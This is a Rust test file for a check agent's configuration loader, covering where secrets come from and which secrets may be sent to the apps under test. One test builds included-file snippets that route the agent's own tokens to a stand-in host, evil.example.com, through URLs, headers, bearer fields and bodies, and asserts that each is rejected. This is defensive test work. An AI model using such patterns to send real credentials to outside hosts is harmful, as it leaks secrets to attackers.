//! Who may have which secret.

use secrecy::ExposeSecret;

use super::{Given, deployment};

const MAIN: &str = "\
include = \"shop.toml\"

[secrets]
SMOKE_PASSWORD = { file = \"password\" }
SMOKE_USER = { env = \"SHOP_USER\" }

[server]
admin_token = \"{{ secret.ADMIN_TOKEN }}\"

[platform.temps]
url = \"https://temps.example.com\"
token = \"{{ secret.TEMPS_API_TOKEN }}\"
secret = \"{{ secret.WEBHOOK_SECRET }}\"

[outcome.ops]
url = \"https://ops.example.com/hook\"
secret = \"{{ secret.OUTCOME_SECRET }}\"
";

fn given(included: &str) -> Given {
    let given = Given::main(MAIN)
        .file("shop.toml", included)
        .file("password", "correct-horse\n");
    [
        "ADMIN_TOKEN",
        "TEMPS_API_TOKEN",
        "WEBHOOK_SECRET",
        "OUTCOME_SECRET",
        "OTHER",
    ]
    .into_iter()
    .fold(given.var("SHOP_USER", "smoke-user"), |given, name| {
        given.var(name, "long-enough-value")
    })
}

#[test]
fn a_secret_comes_from_a_file_or_from_a_variable_of_another_name() {
    let included = "[check.login]\npost = \"/login\"\n\
                    json = { user = \"{{ secret.SMOKE_USER }}\", password = \"{{ secret.SMOKE_PASSWORD }}\" }\n";
    let config = given(included).config();
    let values = config.values_for(
        &deployment("shop", "production"),
        &"run_1".into(),
        Some(&"login".into()),
    );
    let value = |name: &str| values.get(name).and_then(crate::step::Value::text);
    assert_eq!(value("secret.SMOKE_USER").as_deref(), Some("smoke-user"));
    assert_eq!(value("secret.SMOKE_PASSWORD").as_deref(), Some("correct-horse"));
    let token = config.server.admin_token.unwrap();
    assert_eq!(token.expose_secret(), "long-enough-value");
}

#[test]
fn an_included_file_cannot_send_the_agents_own_secrets_anywhere() {
    let ways = [
        (
            "base",
            "base = \"https://evil.example.com/SLOT/\"\n[check.a]\nget = \"/\"\n",
        ),
        (
            "base of an environment",
            "[env.x]\nbase = \"https://evil.example.com/SLOT/\"\n[check.a]\nget = \"/\"\n",
        ),
        (
            "base of a check",
            "[check.a]\nget = \"/\"\nbase = \"https://evil.example.com/SLOT/\"\n",
        ),
        ("address", "[check.a]\nget = \"https://evil.example.com/SLOT\"\n"),
        ("query", "[check.a]\nget = \"/?q=SLOT\"\n"),
        ("one of several addresses", "[check.a]\nget = [\"/\", \"/SLOT\"]\n"),
        ("header", "[check.a]\nget = \"/\"\nheaders.x-token = \"SLOT\"\n"),
        ("bearer", "[check.a]\nget = \"/\"\nbearer = \"SLOT\"\n"),
        (
            "json",
            "[check.a]\npost = \"/\"\njson.deep = [{ token = \"x SLOT y\" }]\n",
        ),
        ("text", "[check.a]\npost = \"/\"\ntext = \"SLOT\"\n"),
        (
            "expected status of a header",
            "[check.a]\nget = \"/\"\nexpect.headers.x = \"SLOT\"\n",
        ),
        (
            "expected json",
            "[check.a]\nget = \"/\"\nexpect.json.token = \"SLOT\"\n",
        ),
        (
            "expected body",
            "[check.a]\nget = \"/\"\nexpect.body.lacks = \"SLOT\"\n",
        ),
        (
            "what should hold",
            "[check.a]\nget = \"/\"\nwarn.body.contains = \"SLOT\"\n",
        ),
        ("default", "[defaults]\nheaders.x = \"SLOT\"\n[check.a]\nget = \"/\"\n"),
    ];
    let owns = [
        ("ADMIN_TOKEN", "`admin_token` in [server]"),
        ("TEMPS_API_TOKEN", "`token` in [platform.temps]"),
        ("WEBHOOK_SECRET", "`secret` in [platform.temps]"),
        ("OUTCOME_SECRET", "`secret` in [outcome.ops]"),
    ];
    for (way, file) in ways {
        for (own, setting) in owns {
            let found = given(&file.replace("SLOT", &format!("{{{{ secret.{own} }}}}"))).problems();
            let wanted =
                format!("error: secret `{own}` is the agent's own, from {setting}: it is never sent to an app");
            assert!(found.starts_with(&wanted), "{way}: {found}");
        }
        let found = given(&file.replace("SLOT", "{{ secret.OTHER }}")).problems();
        let wanted = "error: secret `OTHER` is not listed in the main file, and this file is included";
        assert!(found.starts_with(wanted), "{way}: {found}");
    }
}

#[test]
fn the_main_file_cannot_send_them_either_but_under_another_name() {
    let with = |lines: &str| given("").file("checks.toml", &format!("{MAIN}{lines}"));
    let bearer = |name: &str| {
        format!("[check.a]\nget = \"/\"\nbase = \"https://x.example.com\"\nbearer = \"{{{{ secret.{name} }}}}\"\n")
    };
    assert!(with(&bearer("OTHER")).load().is_ok());
    insta::assert_snapshot!(with(&bearer("TEMPS_API_TOKEN")).problems(), @r#"
    error: secret `TEMPS_API_TOKEN` is the agent's own, from `token` in [platform.temps]: it is never sent to an app
       --> checks.toml:21:11
        |
     21 | bearer = "{{ secret.TEMPS_API_TOKEN }}"
        |           ^^^^^^^^^^^^^^^^^^^^^^^^^^^^
        = help: use another secret; if it must be this one, give it another name on purpose: `[secrets]` with `FOR_CHECKS = { env = "TEMPS_API_TOKEN" }`
    "#);
    let in_warm_up = "[warmup]\nget = \"/\"\nheaders.x = \"{{ secret.ADMIN_TOKEN }}\"\n";
    assert!(with(in_warm_up).problems().contains("`ADMIN_TOKEN` is the agent's own"));
    let renamed = MAIN.replace("[secrets]", "[secrets]\nFOR_CHECKS = { env = \"TEMPS_API_TOKEN\" }");
    let on_purpose = given(&bearer("FOR_CHECKS")).file("checks.toml", &renamed);
    assert!(on_purpose.load().is_ok());
    // The same value by the variable's name is not on purpose.
    let main = MAIN
        .replace("[secrets]", "[secrets]\nTOKEN = { env = \"TEMPS_API_TOKEN\" }")
        .replace("secret.TEMPS_API_TOKEN", "secret.TOKEN");
    let by_variable = given("").file("checks.toml", &format!("{main}{}", bearer("TEMPS_API_TOKEN")));
    assert!(
        by_variable
            .problems()
            .contains("`TEMPS_API_TOKEN` is the agent's own, from `token`")
    );
}

#[test]
fn entries_that_are_none() {
    let main = "[secrets]\nA = {}\nB = { env = \"X\", file = \"x\" }\nC = { env = \"hunter2 hunter2\" }\n\
                D = { env = \"UNSET\" }\nE = { value = \"hunter2-hunter2\", env = \"X\" }\n\
                [check.a]\nget = \"/{{ secret.D }}\"\n";
    let shown = Given::main(main).problems();
    insta::assert_snapshot!(shown, @r#"
    error: `A` in [secrets] has neither `file` nor `env`
      --> checks.toml:2:5
       |
     2 | A = {}
       |     ^^
       = help: write `NAME = { file = "/run/secrets/name" }` or `NAME = { env = "OTHER_NAME" }`; without an entry the environment variable NAME is read

    error: `B` in [secrets] has both `file` and `env`
      --> checks.toml:3:5
       |
     3 | B = { env = "X", file = "x" }
       |     ^^^^^^^^^^^^^^^^^^^^^^^^^
       = help: a secret has one value: keep one of the two

    error: `env` in `C` in [secrets] is not the name of an environment variable
      --> checks.toml:4:13
       = help: write `NAME = { file = "/run/secrets/name" }` or `NAME = { env = "OTHER_NAME" }`; without an entry the environment variable NAME is read

    error: unknown key `value` in `E` in [secrets]
      --> checks.toml:6:7
       = help: write `NAME = { file = "/run/secrets/name" }` or `NAME = { env = "OTHER_NAME" }`; without an entry the environment variable NAME is read

    error: secret `D` has no value: it is not set
      --> checks.toml:8:9
       |
     8 | get = "/{{ secret.D }}"
       |         ^^^^^^^^^^^^^^
       = help: it is read from the environment variable `UNSET`: set it
    "#);
}

#[test]
fn what_signs_deliveries_must_be_a_key() {
    let temps = include_str!("../../platform/files/temps.toml");
    let ours = temps.replacen("recipe = \"temps\"", "recipe = \"standard-webhooks\"", 1);
    let (before, after) = ours.split_once("[[signature]]\nrecipe = \"temps-guide\"").unwrap();
    let of = |kind: &str, secret: &str| {
        let main = format!(
            "[platform.p]\nkind = \"{kind}\"\nurl = \"https://p.example\"\ntoken = \"{{{{ secret.T }}}}\"\n\
             secret = [\"{{{{ secret.GOOD }}}}\", \"{{{{ secret.S }}}}\"]\n[check.home]\nget = \"/\"\n"
        );
        Given::main(&main)
            .file("./ours.toml", &format!("{before}{after}"))
            .var("T", "long-enough-value")
            .var("GOOD", "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw")
            .var("S", secret)
    };
    for (kind, secret, expected) in [
        (
            "temps",
            "short",
            "secret 2 of 2, can open no delivery: by the recipe `temps`, its key has 5 bytes",
        ),
        (
            "./ours.toml",
            "whsec_",
            "by the recipe `standard-webhooks`, it is empty",
        ),
        (
            "./ours.toml",
            "whsec_AAAAAAAA",
            "its key has 6 bytes, and at least 16 are needed",
        ),
        (
            "./ours.toml",
            "whsec_not base64 at all",
            "it is not Base64 behind its prefix",
        ),
        (
            "./ours.toml",
            "whpk_AAAAAAAAAAAAAAAAAAAAAAAA",
            "its key has 18 bytes; an Ed25519 public key has 32",
        ),
        ("temps", "", "secret `S` is empty"),
        ("temps", "  ", "secret `S` is empty"),
    ] {
        let said = of(kind, secret).problems();
        assert!(said.contains(expected), "{kind} {secret:?}: {said}");
        assert!(
            secret.trim().len() < 6 || !said.contains(secret.trim_start_matches("whsec_")) || secret == "whsec_",
            "{said}"
        );
    }
    of("temps", "long-enough").config();
    of("./ours.toml", "whsec_C2FVsBQIhrscChlQIMV+b5sSYspob7oD").config();
}
